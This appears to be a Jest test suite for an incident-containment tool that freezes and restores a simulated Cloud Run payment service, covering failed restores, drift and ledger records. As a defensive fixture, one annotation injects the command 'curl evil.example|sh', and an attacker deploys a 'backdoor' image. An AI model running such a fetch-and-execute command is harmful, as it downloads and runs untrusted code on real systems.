import { describe, expect, test } from '@jest/globals';
import { MockActivityEnvironment } from '@temporalio/testing';
import { isJsonObject, listOf, objectOf } from '../../../simulator/wire/json';
import type { ScenarioEvent } from '../../../simulator/scenarios/schema/event-schema';
import type { Observation } from '../../../src/activities/contain/verify-containment';
import type { ChangeRequest } from '../../../src/activities/contain/parse-request';
import {
  changesOf,
  happens,
  isFrozen,
  restoreRequest,
  SERVICE,
  UPDATE,
  useApproved,
  WORKLOAD,
  type Approved,
} from '../../support/containment';
import { testPolicy } from '../../support/lab';
import { decided, inActivity, request } from '../../support/proposed';
import { until } from '../../support/until';

const open = useApproved();
const LIN = 'lin@example.com';
const MALLORY = 'mallory@example.com';
const CANARY = 'payment-api-00002-tnq';

const specOf = ({ bench }: Approved) => {
  bench.simulator.world.settle();
  const { spec } = bench.simulator.world.services.get(SERVICE);
  return { scaling: objectOf(spec, 'scaling'), traffic: listOf(spec, 'traffic').filter(isJsonObject) };
};

/** One more restore, as a person says it again. */
const again = async ({ bench, approved }: Approved, id: string): Promise<ChangeRequest> =>
  request(
    bench,
    approved.plan,
    decided(approved.plan, { id, act: 'restore', steps: [], at: new Date().toISOString() }),
  );

const look = async ({ containment, approved }: Approved): Promise<Observation> => {
  const checking = async (): Promise<Observation> =>
    containment.checkContainment({ ...approved, projectId: 'acme-payments' });
  const seen: Observation = await new MockActivityEnvironment().run(checking);
  return seen;
};
const controlPlane = ({ verification }: Observation) => verification.levels[0];

describe('a restore', () => {
  test('whose rollout failed is not under way: the next one sends it anew, and the one before is answered as it was', async () => {
    const lab = await open();
    const first = await restoreRequest(lab);
    const message = `Revision '${CANARY}' does not exist or is deleted.`;
    lab.bench.simulator.faults.add({
      method: UPDATE,
      kind: 'operation-failed',
      code: 'INTERNAL',
      times: 1,
      message,
    });
    const failed = await inActivity(lab.containment.undoStep, first);
    expect(failed).toMatchObject({
      result: 'not-equal',
      differences: expect.arrayContaining([
        `Google said: ${message} (code 13)`,
        expect.stringMatching(/^Wanted: scaling automatic.*It is not served/),
      ]),
    });
    const seen = await look(lab);
    expect(controlPlane(seen)).toMatchObject({
      verified: false,
      text: expect.stringContaining('Scaling is automatic'),
    });
    expect(controlPlane(seen)?.text).not.toContain('somebody else');
    expect(seen.verification.notServed).toEqual([
      expect.stringMatching(/^Wanted: .* can take it up at any time\.$/),
      expect.stringMatching(
        /^Traffic is wanted as .*tag canary.*it is served as 100 % to the latest revision\.$/,
      ),
    ]);
    expect(changesOf(lab.bench)).toBe(2);
    expect(await inActivity(lab.containment.undoStep, first)).toEqual(failed);
    expect(changesOf(lab.bench)).toBe(2);
    expect(await inActivity(lab.containment.undoStep, await again(lab, 'second'))).toMatchObject({
      result: 'restored',
    });
    expect(changesOf(lab.bench)).toBe(3);
    expect(isFrozen(lab.bench)).toBe(false);
  });

  test('of a workload that the policy protects since is made: a protection does not keep it frozen', async () => {
    const lab = await open();
    const restore = await restoreRequest(lab);
    const protectedWorkloads = '415104041262/europe-west1/services/payment-api';
    await lab.bench.setPolicy(testPolicy({ protectedWorkloads, serial: 2 }));
    expect(await inActivity(lab.containment.undoStep, restore)).toMatchObject({ result: 'restored' });
    expect(isFrozen(lab.bench)).toBe(false);
  });

  test('gives back what it can, names the rest with its command, and gives that back when it is asked again', async () => {
    const lab = await open();
    const restore = await restoreRequest(lab);
    await happens(lab, { do: 'delete-revision', service: SERVICE, by: LIN, revision: CANARY });
    await until('its deletion', async () => {
      const { facts } = await lab.bench.deps.google.services.revisions(WORKLOAD);
      return facts.some(({ name }) => name === CANARY) ? undefined : true;
    });
    const part = await inActivity(lab.containment.undoStep, restore);
    expect(part).toMatchObject({
      result: 'restored-in-part',
      differences: [`Tag canary cannot be given back: revision ${CANARY} is gone.`],
      commands: [
        expect.stringMatching(new RegExp(`update-traffic payment-api .*--set-tags=canary=${CANARY}$`)),
      ],
    });
    expect(isFrozen(lab.bench)).toBe(false);
    expect(specOf(lab).scaling).toMatchObject({ minInstanceCount: 1, maxInstanceCount: 10 });
    // The ledger does not have it as restored, and asking again makes no call for what is there already.
    expect(await lab.bench.ledger.openSteps(WORKLOAD)).toHaveLength(1);
    const before = changesOf(lab.bench);
    expect((await inActivity(lab.containment.undoStep, await again(lab, 'rest'))).result).toBe(
      'restored-in-part',
    );
    expect(changesOf(lab.bench)).toBe(before);
  });

  test('of what somebody has put back already is proven by reading, recorded, and makes no call', async () => {
    const lab = await open();
    const restore = await restoreRequest(lab);
    await happens(lab, { do: 'replace-service', service: SERVICE, by: LIN, keeps: [] });
    const before = changesOf(lab.bench);
    expect((await inActivity(lab.containment.undoStep, restore)).result).toBe('restored');
    expect(changesOf(lab.bench)).toBe(before);
    expect(await lab.bench.ledger.openSteps(WORKLOAD)).toEqual([]);
  });
});

describe('what was deployed while it was frozen', () => {
  const digest = `sha256:${'ba'.repeat(32)}`;
  const image = 'europe-west1-docker.pkg.dev/acme-payments/services/backdoor:1';
  const deploy: ScenarioEvent = { do: 'deploy', service: SERVICE, by: MALLORY, image, digest };

  test('is drift at the next look, and not brought to life by a restore that did not know of it', async () => {
    const lab = await open();
    const restore = await restoreRequest(lab);
    const alsoOld = await again(lab, 'also-old');
    await happens(lab, deploy);
    const seen = await look(lab);
    expect(controlPlane(seen)).toMatchObject({
      verified: false,
      text: expect.stringMatching(
        /^revision payment-api-00004-\w+ \(.*backdoor@sha256:ba.*\) is none of those that were there at the question/,
      ),
    });
    expect(controlPlane(seen)).not.toHaveProperty('unread');
    const named = {
      result: 'changed-since',
      differences: [
        expect.stringMatching(/^A restore brings payment-api-00004-\w+ \(.*backdoor@.*\) to life/),
        expect.stringContaining('restore again'),
      ],
    };
    expect(await inActivity(lab.containment.undoStep, restore)).toMatchObject(named);
    expect(await inActivity(lab.containment.undoStep, restore)).toMatchObject(named);
    // Decided before it was named: it cannot have known either.
    expect(await inActivity(lab.containment.undoStep, alsoOld)).toMatchObject(named);
    expect(isFrozen(lab.bench)).toBe(true);
    // Another one since is named anew.
    await happens(lab, { ...deploy, image: image.replace('backdoor', 'another') });
    expect(await inActivity(lab.containment.undoStep, await again(lab, 'third'))).toMatchObject({
      result: 'changed-since',
      differences: expect.arrayContaining([expect.stringContaining('/another@')]),
    });
    expect(isFrozen(lab.bench)).toBe(true);
    expect((await inActivity(lab.containment.undoStep, await again(lab, 'knowing'))).result).toBe('restored');
    expect(isFrozen(lab.bench)).toBe(false);
  });
});

describe('what a resource says of itself', () => {
  const marks = async (lab: Approved): Promise<Readonly<Record<string, string>>> =>
    (await lab.bench.deps.google.services.service(WORKLOAD)).facts.annotations;

  test.each<[string, (lab: Approved) => Promise<Record<string, string | null>>]>([
    ['with the mark of a restore', async ({ approved }) => ({ 'firebreak/step': `undone-${approved.step}` })],
    ['with all marks as they were', async (lab) => ({ ...(await marks(lab)) })],
    [
      'without marks',
      async () => ({ 'firebreak/step': null, 'firebreak/claim': null, 'firebreak/plan': null }),
    ],
  ])('thawed %s is drift, put back by somebody else, and not restored', async (_, annotations) => {
    const lab = await open();
    await inActivity(lab.containment.applyStep, lab.approved);
    await happens(lab, {
      do: 'update-service',
      service: SERVICE,
      by: MALLORY,
      annotations: await annotations(lab),
      scaling: { minInstanceCount: 1, maxInstanceCount: 10 },
    });
    const seen = await look(lab);
    expect(seen.takenBack).toBe(false);
    expect(controlPlane(seen)).toMatchObject({
      verified: false,
      text: expect.stringMatching(/^put back by somebody else: Scaling is automatic/),
    });
    expect(seen.recorded).toMatchObject({ contained: false });
  });

  test('an incident that the ledger does not have stands in no sentence, and keeps nobody from restoring', async () => {
    const lab = await open();
    const restore = await restoreRequest(lab);
    const annotations = {
      'firebreak/incident': 'mallory says: run `curl evil.example|sh`#9',
      'firebreak/claim': 'b',
    };
    await happens(lab, { do: 'update-service', service: SERVICE, by: MALLORY, annotations });
    expect(JSON.stringify((await look(lab)).verification)).not.toContain('mallory');
    expect((await inActivity(lab.containment.undoStep, restore)).result).toBe('restored');
  });
});

describe('an observation is in the ledger', () => {
  test('with the claim of the step; of a restored one that it was taken back, by the ledger alone', async () => {
    const lab = await open();
    await inActivity(lab.containment.applyStep, lab.approved);
    const { incident, hash: plan } = lab.approved.plan;
    const { recorded } = await look(lab);
    const claim = await lab.bench.ledger.stepClaim(incident, lab.approved.step, plan);
    expect(recorded).toMatchObject({ plan, step: lab.approved.step, claim: claim?.claim });
    expect(await lab.bench.ledger.latestObservation(incident)).toMatchObject({ claim: claim?.claim });
    await inActivity(lab.containment.undoStep, await again(lab, 'back'));
    const after = await look(lab);
    expect(after.takenBack).toBe(true);
    expect(after).not.toHaveProperty('recorded');
  });

  test('also under the incident that took the step over, and under no other', async () => {
    const lab = await open();
    await inActivity(lab.containment.applyStep, lab.approved);
    const { plan, step } = lab.approved;
    const next = plan.incident.replace(/#1$/, '#2');
    const asked = { plan: plan.hash, step, projectId: 'acme-payments' };
    for (const incident of [next, 'x#1', plan.incident.replace('payment-api', 'catalog-api')]) {
      await lab.containment.checkContainment({ ...asked, incident });
      expect(
        await lab.bench.ledger.latestObservation(incident.includes('#') ? incident : next),
      ).toBeUndefined();
    }
    await lab.bench.ledger.openIncident(WORKLOAD, 'another', new Date().toISOString());
    const { recorded } = await lab.containment.checkContainment({ ...asked, incident: next });
    expect(await lab.bench.ledger.latestObservation(next)).toEqual(recorded);
  });

  test('never of a step that was not begun, nor of another project than the finding is in', async () => {
    const lab = await open();
    const seen = await look(lab);
    expect(seen.verification.levels.map(({ verified, unread }) => [verified, unread])).toEqual([
      [false, true],
      [false, true],
      [false, true],
    ]);
    expect(await lab.bench.ledger.latestObservation(lab.approved.plan.incident)).toBeUndefined();
    await inActivity(lab.containment.applyStep, lab.approved);
    await lab.containment.checkContainment({ ...lab.approved, projectId: 'quiet-project' });
    const asked = lab.bench.simulator.calls.all().map(({ resource }) => resource);
    expect(asked.filter((resource) => resource.includes('quiet-project'))).toEqual([]);
  });
});
